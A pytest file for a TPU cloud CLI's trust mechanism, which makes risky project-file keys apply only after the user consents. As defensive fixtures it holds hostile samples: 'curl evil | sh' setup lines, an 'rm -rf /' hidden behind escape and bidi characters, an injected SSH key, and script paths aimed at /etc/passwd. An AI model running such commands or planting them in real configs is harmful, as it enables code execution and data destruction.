"""`tpuctl trust`: keys of a project file that require trust apply only after the user agreed."""

from __future__ import annotations

import json
import stat
from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import Console, Sandbox
from tests.lifecycle import ZONE
from tpuctl.config.settings import SETTINGS, FilePolicy
from tpuctl.sandbox.request_log import read_log

FILE = f"project: theirs\nzone: {ZONE}\ntype: v4-8\n"
NOT_TRUSTED = "is not trusted, and it sets `project` (line 1)"


@pytest.fixture
def project(tpuctl: Console) -> Path:
    file = tpuctl.folder / "tpuctl.yaml"
    file.write_text(FILE)
    return file


def requests(sandbox: Sandbox) -> list[str]:
    """Return all requests to the sandbox, also those that only read."""
    return [f"{entry.method} {entry.path}" for entry in read_log(sandbox.state.path)]


def beside(tpuctl: Console, environ: dict[str, str]) -> Console:
    """Return the program with additional environment variables."""
    return replace(tpuctl, environ={**tpuctl.environ, **environ})


# Keys that a project file may set without trust.
DESCRIBES = {
    *(
        "zone",
        "zones",
        "iap",
        "internal_ip",
        "ssh_keep",
        "type",
        "version",
        "tier",
        "queue",
        "labels",
        "tags",
        "description",
    ),
    *(
        "timeout",
        "max_reboots",
        "max_restarts",
        "max_recreates",
        "max_failures",
        "healthy_after",
        "restart_on",
        "stop_on",
        "hang_after",
        "kept_log_mib",
        "start_grace",
        "unhealthy_after",
        "unanswered_after",
        "devices_after",
    ),
    *(
        "starting_after",
        "restarting_after",
        "repairing_after",
        "provisioning_after",
        "recheck_after",
        "per_worker",
        "output",
        "timestamps",
    ),
    *("buckets", "data_buckets", "checkpoint_buckets", "dataset_size", "max_price", "budget"),
}
REQUIRES_TRUST = {
    *("project", "quota_project", "billing_project", "ssh_key", "ssh_key_expire_after", "user", "metadata", "setup"),
    *("startup_script", "service_account", "scopes", "network", "subnetwork", "internal_ips", "data_disks", "repair"),
    *("skip_checks", "check_timeout", "egress_prices", "idle", "ttl", "sandbox"),
}


def test_every_setting_is_classified() -> None:
    by_policy = {policy: {spec.key for spec in SETTINGS.values() if spec.policy is policy} for policy in FilePolicy}

    assert by_policy[FilePolicy.ANY_FILE] == DESCRIBES
    assert by_policy[FilePolicy.TRUSTED_FILE] == REQUIRES_TRUST
    assert {spec.key for spec in SETTINGS.values() if spec.effect} == REQUIRES_TRUST


@pytest.mark.parametrize(
    "command",
    [
        ("up", "demo"),
        ("up", "demo", "--yes"),
        ("up", "demo", "--dry-run"),
        ("create", "demo"),
        ("watch", "demo"),
        ("wait", "demo"),
        ("list",),
        ("down", "demo", "--yes"),
        ("run", "demo", "--", "true"),
        ("run", "--up", "v4-8", "--", "true"),
        ("run", "--up", "tpuctl.yaml", "--", "true"),
        ("ssh", "demo"),
        ("check",),
        ("check", "tpuctl.yaml"),
        ("explain", "--node", "demo", "Socket closed"),
        ("history", "demo"),
        ("ssh-key", "show"),
        ("sandbox", "env"),
    ],
    ids=" ".join,
)
def test_untrusted_file_ends_a_command_before_its_first_request(
    tpuctl: Console, sandbox: Sandbox, project: Path, command: tuple[str, ...]
) -> None:
    out, err, code = tpuctl(*command)

    assert (out, code, requests(sandbox)) == ("", 2, [])
    assert err.splitlines()[0] == f"error: {project} {NOT_TRUSTED}"
    trust = f"`tpuctl trust {project}`" if "tpuctl.yaml" in command else "`tpuctl trust`"
    assert all(word in err for word in (trust, "`--trust-project-file`", "`TPUCTL_TRUST_PROJECT_FILE=1`"))


@pytest.mark.parametrize(
    "command",
    [
        ("version",),
        ("--help",),
        ("config", "path"),
        ("completion", "bash"),
        ("explain", "Socket closed"),
        ("trust", "--list"),
    ],
    ids=" ".join,
)
def test_command_without_trusted_keys_needs_no_trust(tpuctl: Console, project: Path, command: tuple[str, ...]) -> None:
    assert tpuctl(*command)[2] == 0


def test_config_show_marks_untrusted_keys(tpuctl: Console, project: Path) -> None:
    assert tpuctl("config", "show", "project")[0] == "project\ttheirs\ttpuctl.yaml line 1 (not trusted)\n"
    assert tpuctl("config", "show", "zone")[0] == f"zone\t{ZONE}\ttpuctl.yaml line 2\n"
    assert tpuctl("trust", "--yes")[2] == 0
    assert tpuctl("config", "show", "project")[0] == "project\ttheirs\ttpuctl.yaml line 1\n"


def test_doctor_reports_an_untrusted_file_without_a_call(tpuctl: Console, sandbox: Sandbox, project: Path) -> None:
    out, _, code = tpuctl("doctor", "-o", "tsv")

    assert (code, requests(sandbox)) == (9, [])
    assert f"{project} {NOT_TRUSTED}" in out


def test_file_that_only_describes_nodes_needs_no_trust(tpuctl: Console, project: Path) -> None:
    project.write_text(f"zone: {ZONE}\ntype: v4-8\nlabels: {{team: vision}}\nbuckets: [gs://data]\ntimeout: 1h\n")

    assert tpuctl("list")[2] == 0
    assert tpuctl("trust") == ("", f"{project} has no keys that require trust\n", 0)


@pytest.mark.parametrize(
    ("line", "given", "code"),
    [
        pytest.param("project: theirs", (("--project", "mine"), {}), 0, id="flag of every command"),
        pytest.param("project: theirs", ((), {"TPUCTL_PROJECT": "mine"}), 0, id="variable"),
        pytest.param("project: theirs", ((), {"CLOUDSDK_CORE_PROJECT": "mine"}), 0, id="gcloud's variable"),
        pytest.param("setup: evil", (("--setup", "true"), {}), 0, id="flag of the command"),
        pytest.param("network: evil", (("--network", "default"), {}), 0, id="flag that is named like its key"),
        pytest.param("data_disks: [evil]", (("--data-disk", "source=d"), {}), 0, id="flag with another name"),
        pytest.param("ttl: 5m", (("--ttl", "8h"), {}), 0, id="time limit by a flag"),
        pytest.param("ttl: 5m", (("--ttl", "forever"), {}), 0, id="no time limit by a flag"),
        pytest.param("idle: 5m", (("--idle", "forever"), {}), 0, id="no idle limit by a flag"),
        pytest.param("ttl: 5m", (("--idle", "2h"), {}), 2, id="time limit"),
        pytest.param("idle: 5m", (("--ttl", "2h"), {}), 2, id="idle limit"),
        pytest.param("network: evil", (("--setup", "true"), {}), 2, id="flag of another key"),
        pytest.param("metadata: {a: b}", (("--metadata", "c=d"), {}), 2, id="flag that adds to the file"),
        pytest.param("setup: evil", ((), {"TPUCTL_TRUST_PROJECT_FILE": ""}), 2, id="empty variable"),
        pytest.param("setup: evil", ((), {"TPUCTL_TRUST_PROJECT_FILE": "0"}), 2, id="variable that says no"),
    ],
)
def test_overridden_key_needs_no_trust(
    tpuctl: Console, project: Path, line: str, given: tuple[tuple[str, ...], dict[str, str]], code: int
) -> None:
    flags, environ = given
    project.write_text(f"zone: {ZONE}\ntype: v4-8\n{line}\n")

    _, err, ended = beside(tpuctl, environ)("up", "demo", "--dry-run", "--skip-check", "all", *flags)

    assert ended == code, err
    assert "theirs" not in err
    assert ("is not trusted" in err) == (code == 2)


@pytest.mark.parametrize(
    ("flags", "environ"),
    [(("--trust-project-file",), {}), ((), {"TPUCTL_TRUST_PROJECT_FILE": "1"})],
    ids=["flag", "variable"],
)
def test_trust_flag_or_variable_applies_to_one_command(
    tpuctl: Console, project: Path, flags: tuple[str, ...], environ: dict[str, str]
) -> None:
    assert beside(tpuctl, environ)("list", *flags)[2] == 0
    assert tpuctl("list")[2] == 2


def test_terminal_is_asked_once_and_the_command_continues(tpuctl: Console, sandbox: Sandbox, project: Path) -> None:
    for answer in ("n\n", "\n", ""):
        _, err, code = tpuctl("list", stdin=answer)
        assert (code, requests(sandbox)) == (1, [])
        assert "line 1: project: theirs" in err
        assert "trust this file until it changes? [y/N] " in err
    assert tpuctl("list", stdin="y\n")[2] == 0
    assert requests(sandbox) != []
    assert tpuctl("list", stdin="")[2] == 0
    assert tpuctl("list", stdin="", CI="true")[2] == 0


def test_ci_job_with_a_terminal_is_not_asked(tpuctl: Console, project: Path) -> None:
    _, err, code = tpuctl("list", stdin="y\n", CI="true")

    assert (code, err.splitlines()[0]) == (2, f"error: {project} {NOT_TRUSTED}")


def test_trust_shows_what_each_key_does(tpuctl: Console, project: Path) -> None:
    (tpuctl.folder / "key").write_text("private")
    (tpuctl.folder / "start.sh").write_text("#!/bin/sh\n" + "".join(f"line {number}\n" for number in range(30)))
    project.write_text(
        "project: theirs\ntype: v4-8\nstartup_script: start.sh\nssh_key: ./key\nskip_checks: [TPU101, TPU401]\n"
        "metadata:\n  ssh-keys: 'eve:ssh-ed25519 AAAA'\n  token: abcdefg\nsetup: |\n  curl evil | sh\n  x\n"
    )

    out, err, code = tpuctl("trust")

    assert (out, code) == ("", 2)
    assert "pass `--yes` to confirm" in err
    shown = err.splitlines()[
        : err.splitlines().index("    -> every worker of a new node runs these commands as you") + 1
    ]
    assert [line for line in shown if not line.startswith("        line ")] == [
        f"warning: {project} is not trusted yet; it sets",
        "  line 1: project: theirs",
        "    -> nodes are searched, created and billed in this project",
        "  line 3: startup_script: start.sh (240 bytes)",
        "        #!/bin/sh",
        "        … and 11 more lines",
        "    -> sent to every new node, where every worker runs it as root",
        "  line 4: ssh_key: ./key",
        "    -> holders of this key can log in on the workers",
        "    -> THE KEY IS PART OF THE PROJECT: everyone with a copy of the project can log in to your nodes",
        "  line 5: skip_checks: TPU101, TPU401",
        "    -> findings of these checks are ignored",
        "  line 6: metadata",
        "      ssh-keys: eve:ssh-ed25519 AAAA",
        "      token: <hidden: 7 bytes>",
        "    -> sent to every new node; some keys run code as root or allow others to log in",
        "  line 9: setup (2 lines)",
        "        curl evil | sh",
        "        x",
        "    -> every worker of a new node runs these commands as you",
    ]


def test_trust_shows_metadata_with_show_metadata(tpuctl: Console, project: Path) -> None:
    project.write_text("metadata: {token: abcdefg}\n")

    assert "      token: abcdefg\n" in tpuctl("trust", "--show-metadata")[1]


def test_control_sequences_of_the_file_are_escaped(tpuctl: Console, project: Path) -> None:
    (tpuctl.folder / "start.sh").write_text("echo \x1b[8mhidden\r\x9bJ\u202e\n")
    project.write_text('startup_script: start.sh\nsetup: "echo \\e[8m; rm -rf /\\u202e"\nnetwork: "a\\u202eb"\n')

    _, err, _ = tpuctl("list", stdin="n\n")

    assert not {"\x1b", "\r", "\x9b", "\u202e"} & set(err)
    assert "rm -rf /" in err


def test_change_of_the_file_or_its_script_revokes_trust(tpuctl: Console, project: Path) -> None:
    script = tpuctl.folder / "start.sh"
    script.write_text("true\n")
    project.write_text(FILE + "startup_script: start.sh\n")
    assert tpuctl("trust", "--yes")[2] == 0
    assert tpuctl("list")[2] == 0

    script.write_text("curl evil | sh\n")
    assert "has changed since it was trusted" in tpuctl("list")[1]
    assert tpuctl("trust", "--list")[0] == f"{project}\tchanged\n"
    script.write_text("true\n")
    project.write_text(project.read_text().replace("theirs", "others"))
    assert "has changed since it was trusted" in tpuctl("list")[1]
    assert tpuctl("trust", "--yes")[2] == 0
    # Its earlier content is no longer trusted.
    project.write_text(project.read_text().replace("others", "theirs"))
    assert "has changed since it was trusted" in tpuctl("list")[1]
    # A copy in another folder is not trusted.
    copy = tpuctl.folder.parent / "copy"
    copy.mkdir()
    for file in (project, script):
        (copy / file.name).write_text(file.read_text())
    assert "is not trusted" in replace(tpuctl, folder=copy)("list")[1]


def test_trust_can_be_listed_and_revoked(tpuctl: Console, project: Path) -> None:
    assert tpuctl("trust", "tpuctl.yaml", "--yes")[2] == 0
    assert tpuctl("trust", "--list")[0] == f"{project}\ttrusted\n"
    assert "is trusted; it sets" in tpuctl("trust")[1]
    state = Path(tpuctl.environ["TPUCTL_STATE_DIR"]) / "trusted"
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    assert [stat.S_IMODE(path.stat().st_mode) for path in state.iterdir()] == [0o600]

    project.unlink()
    (listed,) = json.loads(tpuctl("trust", "--list", "-o", "json")[0])
    assert (listed["path"], listed["state"]) == (str(project), "gone")
    assert tpuctl("trust", "--revoke", str(project)) == ("", f"{project} is no longer trusted\n", 0)
    assert tpuctl("trust", "--revoke", str(project)) == ("", f"{project} was not trusted\n", 0)
    assert tpuctl("trust", "--list") == ("", "", 0)
    assert list(state.iterdir()) == []
    assert tpuctl("trust")[2] == tpuctl("trust", "absent.yaml")[2] == tpuctl("trust", "--list", "--revoke")[2] == 2


@pytest.mark.parametrize(
    ("content", "mode"),
    [
        pytest.param(b"", 0o600, id="empty"),
        pytest.param(b"%b relative/tpuctl.yaml", 0o600, id="no absolute path"),
        pytest.param(b"%b /a\0b", 0o600, id="no path"),
        pytest.param(b"%b /" + b"x" * 5000, 0o600, id="too long"),
        pytest.param(b"%b /another/tpuctl.yaml", 0o600, id="another file"),
        pytest.param(b"0" * 64 + b" /a", 0o600, id="another content"),
        pytest.param(None, 0o666, id="others may write it"),
    ],
)
def test_damaged_trust_record_is_ignored(tpuctl: Console, project: Path, content: bytes | None, mode: int) -> None:
    assert tpuctl("trust", "--yes")[2] == 0
    (kept,) = (Path(tpuctl.environ["TPUCTL_STATE_DIR"]) / "trusted").iterdir()
    kept.write_bytes(kept.read_bytes() if content is None else content.replace(b"%b", kept.name.encode()))
    kept.chmod(mode)

    assert NOT_TRUSTED in tpuctl("list")[1]


def test_trust_of_one_file_moved_to_the_digest_of_another_does_not_count(tpuctl: Console, project: Path) -> None:
    assert tpuctl("trust", "--yes")[2] == 0
    folder = Path(tpuctl.environ["TPUCTL_STATE_DIR"]) / "trusted"
    (first,) = folder.iterdir()
    content = first.read_bytes()
    other = tpuctl.folder.parent / "other"
    other.mkdir()
    (other / "tpuctl.yaml").write_text(FILE)
    assert replace(tpuctl, folder=other)("trust", "--yes")[2] == 0
    (second,) = set(folder.iterdir()) - {first}

    first.rename(second)

    assert second.read_bytes() == content
    assert NOT_TRUSTED in replace(tpuctl, folder=other)("list")[1]
    assert NOT_TRUSTED in tpuctl("list")[1]


@pytest.mark.parametrize(
    ("mode", "problem"),
    [
        pytest.param(0o777, "others can write to it (mode 0777)", id="all"),
        pytest.param(0o720, "others can write to it (mode 0720)", id="the group"),
        pytest.param(None, "it is a symlink", id="a symlink"),
    ],
)
def test_store_of_trust_that_others_can_change_does_not_count(
    tpuctl: Console, project: Path, mode: int | None, problem: str
) -> None:
    assert tpuctl("trust", "--yes")[2] == 0
    folder = Path(tpuctl.environ["TPUCTL_STATE_DIR"]) / "trusted"
    if mode is None:
        folder.rename(folder.with_name("elsewhere"))
        folder.symlink_to("elsewhere")
    else:
        folder.chmod(mode)

    _, refused, code = tpuctl("list")
    _, answered, _ = tpuctl("list", stdin="y\n")

    assert (f"warning: no file counts as trusted because of {folder}: {problem}\n" in refused, code) == (True, 2)
    assert ("cannot store the trust" in answered, tpuctl("list")[2]) == ((True, 2) if mode is None else (False, 0))
    assert folder.is_symlink() or stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_unwritable_state_folder_only_asks_again(tpuctl: Console, project: Path) -> None:
    blocked = Path(tpuctl.environ["TPUCTL_STATE_DIR"]) / "trusted"
    blocked.parent.mkdir(exist_ok=True)
    blocked.write_text("a file")

    for _ in range(2):
        _, err, code = tpuctl("list", stdin="y\n")
        assert (code, "warning: cannot store the trust" in err) == (0, True)


def test_config_set_keeps_the_trust(tpuctl: Console, project: Path) -> None:
    project.unlink()
    assert tpuctl("config", "set", "project", "mine", "--here")[2] == 0
    assert tpuctl("config", "set", "network", "default", "--here")[2] == 0
    assert tpuctl("list")[2] == 0
    project.write_text(project.read_text() + "setup: evil\n")

    assert tpuctl("config", "set", "network", "other", "--here")[2] == 0
    assert tpuctl("config", "unset", "network", "--here")[2] == 0
    assert "has changed since it was trusted, and it sets `project` (line 1), `setup` (line 2)" in tpuctl("list")[1]


@pytest.mark.parametrize("script", ["/etc/passwd", "~/key", "../key", "link"])
def test_config_set_refuses_a_script_outside_the_project(tpuctl: Console, project: Path, script: str) -> None:
    (tpuctl.folder / "link").symlink_to("/etc/passwd")

    _, err, code = tpuctl("config", "set", "startup_script", script, "--here")

    assert (code, project.read_text()) == (2, FILE)
    assert f"`startup_script` is `{script}`: a project file may only name a script inside its folder" in err
    assert tpuctl("config", "set", "startup_script", "start.sh", "--here")[2] == 0


def test_creation_line_names_values_of_the_file(tpuctl: Console, sandbox: Sandbox, project: Path) -> None:
    trusted = beside(tpuctl, {"TPUCTL_TRUST_PROJECT_FILE": "1"})
    chosen = f"(project theirs, zone {ZONE}, type v4-8: from tpuctl.yaml)"

    assert f"creating v4-8 (tpu-ubuntu2204-base, about $12.88/h) {chosen}" in trusted("up", "demo", "--for", "ready")[1]
    assert (
        f"creating v4-8 (tpu-ubuntu2204-base, about $12.88/h) {chosen}\n" in trusted("create", "made", "--no-wait")[1]
    )
    there = "europe-west4-a"
    by_flag = trusted("up", "other", "--type", "v3-8", "--zone", there, "--for", "ready", "--project", "mine")[1]
    assert "creating v3-8 (tpu-ubuntu2204-base)" in by_flag


def test_type_of_the_file_is_said_with_its_price_before_the_creation(
    tpuctl: Console, sandbox: Sandbox, project: Path
) -> None:
    """A type needs no trust: a copied file may ask for two thousand dollars per hour."""
    project.write_text("type: v5p-1024\nzone: us-east5-a\n")
    chosen = "(zone us-east5-a, type v5p-1024: from tpuctl.yaml)"

    planned = tpuctl("up", "demo", "--dry-run")[0].splitlines()
    own = tpuctl("up", "demo", "--dry-run", "--type", "v5p-8")[0]
    created = tpuctl("create", "demo", "--no-wait", "--skip-check", "all")[1]

    assert planned[1] == "   price: $2,150.40/h, list of 2026-08 (type v5p-1024: from tpuctl.yaml)"
    assert "from tpuctl.yaml" not in own
    assert f"creating v5p-1024 (v2-alpha-tpuv5, $2,150.40/h) {chosen}\n" in created


@pytest.mark.parametrize(
    "command",
    [
        ("down", "real", "--yes"),
        ("down", "real", "--yes", "--quiet"),
        ("down", "real", "--yes", "-o", "json"),
        ("down", "r*", "--yes"),
        ("delete", "real", "--yes", "--ignore-not-found"),
        ("stop", "real", "--yes"),
        ("reset", "real", "--yes"),
        ("gc", "--yes"),
        ("list",),
    ],
    ids=" ".join,
)
def test_untrusted_file_never_turns_a_command_to_the_sandbox(offline: Console, command: tuple[str, ...]) -> None:
    """A file above the folder would let `down` say "already gone" while the node of the cloud bills."""
    file = offline.folder / "tpuctl.yaml"
    file.write_text("sandbox: true\n")
    below = offline.folder / "deep" / "down"
    below.mkdir(parents=True)

    out, err, code = replace(offline, folder=below)(*command)

    assert (out, code) == ("", 2)
    assert f"{file} is not trusted, and it sets `sandbox` (line 1)" in err
    assert "gone" not in err


def test_file_with_a_sandbox_says_what_it_does_and_applies_once_trusted(offline: Console) -> None:
    (offline.folder / "tpuctl.yaml").write_text("sandbox: true\n")

    out, asked, code = offline("list", "-o", "json", stdin="y\n")
    again = offline("list", "-o", "json")

    assert (out, code) == ("[]\n", 0)
    assert "  line 1: sandbox: true\n    -> every command acts in the local sandbox: " in asked
    assert again == ("[]\n", "sandbox: nothing here is real, and nothing is billed\n", 0)


def test_sandbox_of_the_environment_needs_no_trust(offline: Console) -> None:
    (offline.folder / "tpuctl.yaml").write_text("sandbox: true\n")

    assert offline("list", "-o", "name", TPUCTL_SANDBOX="1")[::2] == ("", 0)
    assert offline("list", "-o", "name", "--sandbox")[::2] == ("", 0)
    assert offline("list", TPUCTL_SANDBOX="0")[2] != 0
